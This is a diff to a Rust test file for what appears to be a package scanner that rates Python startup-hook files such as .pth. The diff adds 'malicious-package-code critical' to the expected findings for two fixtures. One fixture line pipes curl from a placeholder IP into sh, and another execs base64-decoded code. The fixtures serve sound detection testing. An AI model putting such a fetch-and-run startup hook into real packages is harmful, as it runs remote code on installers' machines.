@@ -118,14 +118,14 @@ fn what_runs_at_every_start_is_told_before_it_is_installed() {
             "acme.pth",
             "import os; os.system('curl https://203.0.113.7/x | sh')\n"
         ),
-        "startup-hook high"
+        "malicious-package-code critical, startup-hook high"
     );
     assert_eq!(
         with(
             "acme.pth",
             "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
         ),
-        "startup-hook critical"
+        "malicious-package-code critical, startup-hook critical"
     );
     assert_eq!(with("acme.pth", "import acme\n"), "startup-hook medium");
     assert_eq!(with("acme.start", "acme:answer\n"), "startup-hook medium");
